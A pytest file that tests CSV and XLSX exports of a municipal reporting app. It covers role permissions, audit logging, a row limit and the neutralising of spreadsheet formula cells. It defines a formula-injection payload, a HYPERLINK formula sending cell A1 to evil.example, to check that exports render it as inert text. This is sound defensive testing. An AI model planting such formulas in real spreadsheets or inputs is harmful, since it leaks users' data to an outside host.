"""Exports (issue 14, item 4) through HTTP against the app: reports, broadcasts with their funnel and subscribers as
CSV and XLSX; what each role may export; formula cells neutralised in both formats; one audit entry per export;
the bound past which an export is refused (422 export_too_large)."""
from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime
from urllib.parse import unquote

import openpyxl
import pytest
import requests

from chalicelib.domain.spreadsheets import FORMULA_STARTS, MAX_ROWS
from chalicelib.domain.tenancy import Channel
from chalicelib.store import directory
from chalicelib.store.models import CitizenModel
from local.seed import REPORTS, TEMPLATES, _square

CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CENTRE = (43.7430, 10.9460)
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Clicca qui")'
OTHERS = ["+39 1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
ROLES = ("admin", "technical", "police", "communications")


class Comune:
    """A comune of its own (unique ids) with a broadcast, a reports and a safety channel."""

    def __init__(self, stack):
        n = uuid.uuid4().int % 10**9
        self.stack, self.tenant = stack, f"esporta{n}"
        self.broadcast, self.reports, self.safety = (f"9{n:09d}0000{k}" for k in (1, 2, 3))
        directory.save_tenant(self.tenant, f"Comune di Esporta {n}", {
            "hamlets": [{"id": "colle", "name": "Colle", "latitude": CENTRE[0], "longitude": CENTRE[1],
                         "geometry": _square(*CENTRE)}],
            "topics": [{"id": "allerte", "name": "Allerte"}],
            "privacy_notice_url": "https://example.org/privacy", "privacy_notice_version": "v1", "reports": REPORTS})
        for channel in (
            Channel(self.broadcast, self.tenant, "broadcast", "Notizie dal Comune", "+39 0571 950001",
                    {"rate_per_second": 200, "quiet_hours": {"enabled": False}}),
            Channel(self.reports, self.tenant, "reports", "Segnalazioni", "+39 0571 950002", {"rate_per_second": 200}),
            Channel(self.safety, self.tenant, "safety", "Sicurezza e Comunità", "+39 0571 950003",
                    {"rate_per_second": 200, "registered_only": True}),
        ):
            directory.save_channel(channel)
            stack.sandbox.add_channel({"phone_number_id": channel.phone_number_id, "kind": channel.kind,
                                       "tenant": self.tenant, "templates": TEMPLATES})
        self.tokens = {role: stack.issuer.token(self.tenant, [role]) for role in ROLES}

    def call(self, method: str, path: str, role: str = "admin", **kwargs) -> requests.Response:
        return requests.request(method, f"{self.stack.api_url}{path}", timeout=60,
                                headers={"Authorization": f"Bearer {self.tokens[role]}"}, **kwargs)

    def export(self, what: str, role: str = "admin", **params) -> requests.Response:
        """As the console asks: an XLSX by its type (API Gateway sends binary media as bytes only then)."""
        accept = XLSX_TYPE if params.get("format") == "xlsx" else "text/csv, application/json"
        headers = {"Authorization": f"Bearer {self.tokens[role]}", "Accept": accept}
        return requests.get(f"{self.stack.api_url}/api/v1/exports/{what}", params=params, headers=headers, timeout=60)

    def desk_report(self, text: str, kind: str = "report", role: str = "technical") -> dict:
        answer = self.call("POST", "/api/v1/reports", role=role,
                           json={"kind": kind, "source": "desk", "text": text, "hamlet": "colle"})
        assert answer.status_code == 201, answer.text
        return answer.json()

    def audit_actions(self) -> list[str]:
        answer = self.call("GET", "/api/v1/audit", params={"limit": "100"})
        assert answer.status_code == 200, answer.text
        return [entry["action"] for entry in answer.json()["items"] if entry["action"] != "audit.read"]  # its own reads


@pytest.fixture
def comune(stack):
    return Comune(stack)


def csv_rows(answer: requests.Response) -> list[list[str]]:
    body = answer.content.decode("utf-8")
    assert body.startswith("\ufeff")  # the BOM: a spreadsheet reads the accents right
    return list(csv.reader(io.StringIO(body[1:]), delimiter=";"))


def xlsx_rows(answer: requests.Response) -> tuple[list[list[str]], list]:
    book = openpyxl.load_workbook(io.BytesIO(answer.content))
    sheet = book.worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    rows = [["" if cell.value is None else cell.value for cell in row] for row in sheet.iter_rows()]
    return rows, cells


def file_name(answer: requests.Response) -> str:
    disposition = answer.headers["Content-Disposition"]
    assert disposition.startswith("attachment; ")
    return unquote(disposition.split("filename*=UTF-8''", 1)[1])


def test_a_hostile_description_opens_safely_and_the_xlsx_has_the_csv_rows(comune):
    comune.desk_report(HOSTILE)
    for text in OTHERS:
        comune.desk_report(text)
    comune.desk_report("Lampione spento in via Verdi, è buio")

    as_csv = comune.export("reports", role="technical", format="csv")
    as_xlsx = comune.export("reports", role="technical", format="xlsx")

    assert as_csv.status_code == 200, as_csv.text
    assert as_csv.headers["Content-Type"] == CSV_TYPE
    assert as_xlsx.status_code == 200, as_xlsx.text
    assert as_xlsx.headers["Content-Type"] == XLSX_TYPE
    today = datetime.now(UTC).date().isoformat()
    assert file_name(as_csv) == f"segnalazioni-{today}.csv"
    assert file_name(as_xlsx) == f"segnalazioni-{today}.xlsx"
    rows = csv_rows(as_csv)
    sheet, cells = xlsx_rows(as_xlsx)
    assert sheet == rows  # the same rows, cell for cell
    assert rows[0][:3] == ["Numero", "Stato", "Categoria"]
    assert len(rows) == 1 + 2 + len(OTHERS)
    descriptions = [row[rows[0].index("Descrizione")] for row in rows[1:]]
    assert "'" + HOSTILE in descriptions  # kept whole, as text
    assert "Lampione spento in via Verdi, è buio" in descriptions
    assert not [value for row in rows for value in row if value.startswith(FORMULA_STARTS)]
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr"}  # text: no formula, no number guessed


def test_the_cells_are_neutralised_in_broadcasts_and_subscribers_too(comune):
    answer = comune.call("POST", "/api/v1/broadcasts", role="communications", json={
        "channel": comune.broadcast, "text": "@Tutti: " + HOSTILE, "title": "=1+1", "draft": True,
        "audience": {"hamlets": ["colle"], "topics": []}})
    assert answer.status_code == 201, answer.text

    for file_format in ("csv", "xlsx"):
        exported = comune.export("broadcasts", role="communications", format=file_format)
        assert exported.status_code == 200, exported.text
        rows = csv_rows(exported) if file_format == "csv" else xlsx_rows(exported)[0]
        header, row = rows[0], rows[1]
        assert row[header.index("Titolo")] == "'=1+1"
        assert row[header.index("Testo")] == "'@Tutti: " + HOSTILE
        assert row[header.index("Frazioni")] == "Colle"
        assert (row[header.index("Stato")], row[header.index("Priorità")]) == ("bozza", "normale")  # not draft, normal
        assert header[-7:-1] == ["Destinatari", "Inviati", "Consegnati", "Letti", "Non consegnati",
                                 "Saltati (disiscritti)"]


def test_each_role_exports_what_it_may_see(comune):
    comune.desk_report("Buca in via Roma")
    comune.desk_report("Auto sospetta davanti alla scuola", kind="safety", role="police")
    resident = comune.call("POST", "/api/v1/subscribers", role="police", json={
        "channel": comune.safety, "phone": "+39 333 111 2233", "name": "=Anna Bianchi", "address": "Via Mazzini 4",
        "hamlet": "colle"})
    assert resident.status_code == 201, resident.text
    added = comune.call("POST", "/api/v1/subscribers", role="communications",
                        json={"channel": comune.broadcast, "phone": "+39 333 444 5566"})
    assert added.status_code == 201, added.text

    def status(what: str, role: str, **params) -> int:
        return comune.export(what, role=role, **params).status_code

    # communications: broadcasts and the broadcast channel's subscribers; no reports, no residents
    assert status("broadcasts", "communications") == 200
    assert status("subscribers", "communications", channel=comune.broadcast) == 200
    assert status("subscribers", "communications", channel=comune.safety) == 403
    assert status("reports", "communications") == 403
    # technical: reports, not tips; no broadcasts, no subscribers
    technical = csv_rows(comune.export("reports", role="technical"))
    assert [row[5] for row in technical[1:]] == ["Buca in via Roma"]
    assert status("reports", "technical", kind="safety") == 403
    assert status("broadcasts", "technical") == 403
    assert status("subscribers", "technical", channel=comune.reports) == 403
    # police: tips and the safety channel's residents (with name and address); no reports, no broadcasts
    tips = comune.export("reports", role="police", format="xlsx")
    assert file_name(tips).startswith("segnalazioni-sicurezza-")
    assert [row[5] for row in xlsx_rows(tips)[0][1:]] == ["Auto sospetta davanti alla scuola"]
    assert "Esito" in xlsx_rows(tips)[0][0] and "Riferimento dell'ente" not in xlsx_rows(tips)[0][0]
    assert status("reports", "police", kind="report") == 403
    assert status("broadcasts", "police") == 403
    residents = comune.export("subscribers", role="police", channel=comune.safety)
    assert file_name(residents).startswith("iscritti-sicurezza-e-comunità-")  # the channel's name, accents kept
    assert "filename=\"iscritti-sicurezza-e-comunita-" in residents.headers["Content-Disposition"]
    rows = csv_rows(residents)
    assert rows[0][-3:] == ["Nome", "Indirizzo", "Frazione di residenza"]
    assert rows[1][0] == "'+393331112233" and rows[1][-3:] == ["'=Anna Bianchi", "Via Mazzini 4", "Colle"]
    assert status("subscribers", "police", channel=comune.broadcast) == 403
    # admin: reports (not tips), broadcasts, every channel's subscribers
    assert [row[5] for row in csv_rows(comune.export("reports"))[1:]] == ["Buca in via Roma"]
    assert status("reports", "admin", kind="safety") == 403
    assert status("broadcasts", "admin") == 200
    subscribers = csv_rows(comune.export("subscribers", channel=comune.broadcast))
    assert [row[0] for row in subscribers[1:]] == ["'+393334445566"]  # a leading + is neutralised too
    assert [(row[1], row[4]) for row in subscribers[1:]] == [("attivo", "ufficio")]  # in Italian, not active, staff
    assert status("subscribers", "admin", channel=comune.safety) == 200


def test_each_export_is_one_audit_entry(comune):
    comune.desk_report("Rifiuti abbandonati")
    before = comune.audit_actions()
    comune.export("reports", format="csv")
    comune.export("reports", format="xlsx", status="new")
    comune.export("broadcasts")
    comune.export("subscribers", channel=comune.broadcast, format="xlsx")
    after = comune.audit_actions()
    added = after[:len(after) - len(before)]  # newest first
    assert sorted(added) == sorted(["export.reports", "export.reports", "export.broadcasts", "export.subscribers"])


def test_filters_and_bad_parameters(comune):
    comune.desk_report("Buca in via Roma")
    first = comune.desk_report("Lampione spento")
    step = comune.call("POST", f"/api/v1/reports/{first['id']}/transitions", role="technical", json={"to": "triaged"})
    assert step.status_code == 200, step.text
    triaged = csv_rows(comune.export("reports", role="technical", status="triaged"))
    assert [row[5] for row in triaged[1:]] == ["Lampione spento"] and triaged[1][1] == "presa in carico"
    assert [row[5] for row in csv_rows(comune.export("reports", role="technical", q="buca"))[1:]] == ["Buca in via Roma"]

    taken = comune.call("POST", f"/api/v1/reports/{first['id']}/assignee", role="technical", json={"assignee": "me"})
    assert taken.status_code == 200, taken.text
    mine = csv_rows(comune.export("reports", role="technical", assignee="me"))  # "Le mie segnalazioni"
    assert [row[5] for row in mine[1:]] == ["Lampione spento"]
    assert mine[1][mine[0].index("In carico a")] == taken.json()["assignee"]["name"]

    wrong = comune.export("reports", role="technical", format="pdf")
    assert wrong.status_code == 422 and wrong.json()["error"]["details"][0]["field"] == "format"
    assert comune.export("reports", role="technical", status="lost").status_code == 422
    assert comune.export("subscribers", channel=comune.broadcast, status="lost").status_code == 422
    assert comune.export("subscribers", channel="123").status_code == 404


def test_an_export_past_its_bound_is_refused_with_422(comune):
    """MAX_ROWS subscribers export; one more and the answer is 422 export_too_large (narrow it), never a cut file."""
    now = datetime.now(UTC)
    with CitizenModel.batch_write() as batch:
        for n in range(MAX_ROWS):
            batch.save(CitizenModel(comune.broadcast, f"+39340{n:07d}", tenant_id=comune.tenant,
                                    phone=f"+39340{n:07d}", status="active", created_at=now, updated_at=now))
    full = comune.export("subscribers", channel=comune.broadcast)
    assert full.status_code == 200, full.text
    assert len(csv_rows(full)) == 1 + MAX_ROWS

    added = comune.call("POST", "/api/v1/subscribers", json={"channel": comune.broadcast, "phone": "+39 333 999 0000"})
    assert added.status_code == 201, added.text
    for file_format in ("csv", "xlsx"):
        refused = comune.export("subscribers", channel=comune.broadcast, format=file_format)
        assert refused.status_code == 422, refused.text
        error = refused.json()["error"]
        assert error["code"] == "export_too_large" and error["details"]["max_rows"] == MAX_ROWS
